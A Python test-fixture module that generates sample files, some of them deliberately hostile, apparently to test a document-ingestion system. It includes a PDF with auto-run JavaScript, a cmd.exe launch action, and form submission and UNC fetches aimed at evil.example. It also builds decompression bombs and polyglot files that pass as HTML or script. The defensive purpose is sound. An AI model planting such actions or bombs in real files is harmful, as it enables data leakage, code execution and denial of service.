"""Files as they come from elsewhere, made here: PDF, pictures, RTF; harmless, odd and hostile."""

from __future__ import annotations

import base64
import io
import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, TiffImagePlugin
from reportlab.pdfgen.canvas import Canvas

HEIC = base64.b64decode(
    "AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAX1tZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAA"
    "AAAAAAAAACJpbG9jAAAAAERAAAEAAQAAAAABoQABAAAAAAAAAFkAAAAjaWluZgAAAAAAAQAAABVpbmZlAgAAAAABAABo"
    "dmMxAAAAAA5waXRtAAAAAAABAAAA/WlwcnAAAADdaXBjbwAAAHZodmNDAQNwAAAAkAAAAAAAHvAA/P34+AAADwNgAAEA"
    "GEABDAH//wNwAAADAJAAAAMAAAMAHroCQGEAAQAqQgEBA3AAAAMAkAAAAwAAAwAeoCCBBZbq5Ka5uAhoMCAAAAMDIAAA"
    "AwAhYgABAAZEAcFzwIkAAAATY29scm5jbHgAAQANAAaAAAAAFGlzcGUAAAAAAAAAQAAAAEAAAAAoY2xhcAAAAEAAAAAB"
    "AAAAMAAAAAEAAAAAAAAAAf////AAAAACAAAAEHBpeGkAAAAAAwgICAAAABhpcG1hAAAAAAAAAAEAAQWBAgMFhAAAAGFt"
    "ZGF0AAAAVSgBrxOA9SeBP//mrUV/5gmr/pSZMSreIT//5h34v5aqLqA//eBk0g24nbHVDnw0FJH27X3x+h/P4fkwTRMp"
    "G61qrq2A8EdywErDgDM23dlEgWNiang="
)
"""64 by 48 points, blue on the left and red on the right: no library here can write HEIC."""


def pdf(*pages: str, encrypt: str | None = None) -> bytes:
    """A PDF with a line of text on each page."""
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=(300, 400), invariant=1)
    for text in pages or ("Bonjour",):
        canvas.drawString(30, 350, text)
        canvas.showPage()
    canvas.save()
    if encrypt is None:
        return out.getvalue()
    locked = io.BytesIO()
    with pikepdf.open(io.BytesIO(out.getvalue())) as document:
        document.save(locked, encryption=pikepdf.Encryption(owner="o", user=encrypt))
    return locked.getvalue()


def hostile_pdf() -> bytes:
    """All that a PDF can do on its own, at once."""
    with pikepdf.open(io.BytesIO(pdf("Un", "Deux"))) as document:
        root, page = document.Root, document.pages[0].obj

        def script(words: str) -> Dictionary:
            return Dictionary(S=Name.JavaScript, JS=String(words))

        root.OpenAction = script("app.alert('ouverture')")
        root.AA = Dictionary(WC=script("app.alert('fin')"))
        document.attachments["virus.exe"] = b"MZ"
        root.Names.JavaScript = Dictionary(
            Names=Array([String("a"), script("app.launchURL('https://evil.example')")])
        )
        page.AA = Dictionary(O=script("app.alert('page')"))
        launch = Dictionary(S=Name.Launch, F=String("cmd.exe"), Next=script("app.alert(1)"))
        remote = Dictionary(
            S=Name.GoToR, F=String("\\\\evil.example\\a.pdf"), D=Array([0, Name.Fit])
        )
        web = Dictionary(S=Name.URI, URI=String("https://evil.example/track"))
        send = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/post"))
        inner = Dictionary(S=Name.GoTo, D=Array([document.pages[1].obj, Name.Fit]), Next=web)
        box = Array([10, 10, 60, 30])
        links = [
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box, A=action)
            for action in (launch, remote, web, send, script("app.alert(2)"), inner)
        ]
        field = document.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("nom"),
                V=String("VALEUR"), Rect=Array([30, 200, 200, 220]), F=4,
                DA=String("/Helv 12 Tf 0 g"), AA=Dictionary(K=script("app.alert(3)")),
            )
        )  # fmt: skip
        helvetica = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        root.AcroForm = Dictionary(
            Fields=Array([field]), XFA=String("<xdp/>"), NeedAppearances=True,
            DA=String("/Helv 12 Tf 0 g"), DR=Dictionary(Font=Dictionary(Helv=helvetica)),
        )  # fmt: skip
        media = Dictionary(
            Type=Name.Annot, Subtype=Name.RichMedia, Rect=box,
            RichMediaContent=Dictionary(Assets=Dictionary()),
        )  # fmt: skip
        page.Annots = Array([*(document.make_indirect(each) for each in links), field, media])
        outline = document.make_indirect(Dictionary(Title=String("Ici"), A=web))
        tree = document.make_indirect(Dictionary(First=outline, Last=outline, Count=1))
        outline.Parent = tree
        root.Outlines = tree
        elsewhere = document.make_stream(b"", F=String("https://evil.example/image"))
        page.Resources.XObject = Dictionary(
            X=document.make_stream(
                b"", Type=Name.XObject, Subtype=Name.Form, BBox=box,
                Ref=Dictionary(F=String("evil.pdf"), Page=0),
            ),
            Y=elsewhere,
        )  # fmt: skip
        out = io.BytesIO()
        document.save(out)
        return out.getvalue()


def pdf_without_text_map() -> bytes:
    """Letters drawn with a font whose codes stand for nothing that is known."""
    with pikepdf.open(io.BytesIO(pdf("x"))) as document:
        page = document.pages[0].obj
        glyph = document.make_stream(b"500 0 0 0 500 500 d1 0 0 400 400 re f")
        names = [Name(f"/g{n}") for n in range(26)]
        font = Dictionary(
            Type=Name.Font, Subtype=Name.Type3, FontBBox=Array([0, 0, 500, 500]),
            FontMatrix=Array([0.001, 0, 0, 0.001, 0, 0]), FirstChar=65, LastChar=90,
            CharProcs=Dictionary({str(name): glyph for name in names}),
            Encoding=Dictionary(Type=Name.Encoding, Differences=Array([65, *names])),
            Widths=Array([500] * 26), Resources=Dictionary(),
        )  # fmt: skip
        page.Resources = Dictionary(Font=Dictionary(F1=document.make_indirect(font)))
        page.Contents = document.make_stream(b"BT /F1 12 Tf 30 300 Td (BONJOUR) Tj ET")
        out = io.BytesIO()
        document.save(out)
        return out.getvalue()


def picture(
    form: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **options: object
) -> bytes:
    """Blue on the left, red on the right."""
    left, right = Image.new("RGB", size, (20, 60, 200)), Image.new("RGB", size, (200, 30, 40))
    left.paste(right, (size[0] // 2, 0))
    out = io.BytesIO()
    left.convert(mode).save(out, form, **options)
    return out.getvalue()


def photograph() -> bytes:
    """A JPEG that a camera turned and put a place, a name and a comment into."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by a quarter
    exif[0x010F] = "APPAREIL SECRET"
    exif.get_ifd(0x8825)[1] = "N"
    return picture("JPEG", exif=exif.tobytes(), comment=b"COMMENTAIRE SECRET")


def tiff(pages: int) -> bytes:
    """A fax of several pages, one bit a point."""
    out = io.BytesIO()
    with TiffImagePlugin.AppendingTiffWriter(out, new=True) as writer:
        for number in range(pages):
            Image.new("1", (200 + number, 100), 1).save(writer, "TIFF", compression="group4")
            writer.newFrame()
    return out.getvalue()


def png_bomb(width: int, height: int) -> bytes:
    """A PNG that says it has so many points, a few kilobytes of which follow."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))
        )

    header = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    points = zlib.compress(bytes(5_000_000), 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", points) + chunk(b"IEND", b"")
    )


def text_chunk_bomb() -> bytes:
    """A PNG whose comment grows a thousandfold when it is inflated."""
    small = picture("PNG", (8, 8))
    data = b"Comment\0\0" + zlib.compress(bytes(200_000_000), 9)
    made = struct.pack("!I", len(data)) + b"zTXt" + data
    made += struct.pack("!I", zlib.crc32(b"zTXt" + data))
    return small[:33] + made + small[33:]


def heic_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """The small HEIC, saying that it is large."""
    size = struct.pack("!II", width, height)
    clip = struct.pack("!IIII", width, 1, height, 1)
    bomb = HEIC.replace(b"ispe" + bytes(4) + struct.pack("!II", 64, 64), b"ispe" + bytes(4) + size)
    return bomb.replace(b"clap" + struct.pack("!IIII", 64, 1, 48, 1), b"clap" + clip)


def jpeg_of(width: int, height: int) -> bytes:
    """A true baseline JPEG of so many points, all of one grey, made without ever holding them.

    ITU-T T.81: one component, one quantisation table, the shortest Huffman tables: each block of
    8 by 8 points is the two codes "no difference" and "end of block", a bit each.
    """

    def segment(marker: int, data: bytes) -> bytes:
        return struct.pack("!BBH", 0xFF, marker, len(data) + 2) + data

    one_code = bytes([1, *[0] * 15])
    blocks = -(-width // 8) * -(-height // 8)
    head = (
        b"\xff\xd8"
        + segment(0xDB, bytes([0, *[16] * 64]))
        + segment(0xC0, struct.pack("!BHHBBBB", 8, height, width, 1, 1, 0x11, 0))
        + segment(0xC4, bytes([0x00]) + one_code + b"\0")
        + segment(0xC4, bytes([0x10]) + one_code + b"\0")
        + segment(0xDA, bytes([1, 1, 0x00, 0, 63, 0]))
    )
    return head + bytes(-(-blocks * 2 // 8)) + b"\xff\xd9"


RTF = (
    rb"{\rtf1\ansi\ansicpg1252{\fonttbl{\f0 Arial;}}{\info{\author Inconnu}}"
    rb"\f0 Ordonnance\par Parac\'e9tamol \b 500 mg\b0\par {\field{\*\fldinst HYPERLINK "
    rb'"https://evil.example"}{\fldrslt un lien}}\par \u8804? 3 par jour}'
)


def pdf_polyglot() -> bytes:
    """A PDF that begins as a page and ends as an archive."""
    page = b"<html><script>window.marked = 1</script><!--\n"
    return page + pdf("Bonjour") + b"PK\x03\x04" + bytes(26) + b"PK\x05\x06" + bytes(18)


def pdf_locked() -> bytes:
    """A PDF that asks for a password."""
    return pdf("Secret", encrypt="sésame")


def gif_polyglot() -> bytes:
    """A picture that is a script too: ``GIF89a/*…*/=1;window.marked=1``."""
    made = picture("GIF", (0x2F2A & 0xFF, 1), mode="P")
    return made + b"*/=1;window.marked=1//<script>window.marked=1</script>"


def png_bomb_of_30000() -> bytes:
    """A PNG that says it has 30,000 by 30,000 points."""
    return png_bomb(30_000, 30_000)
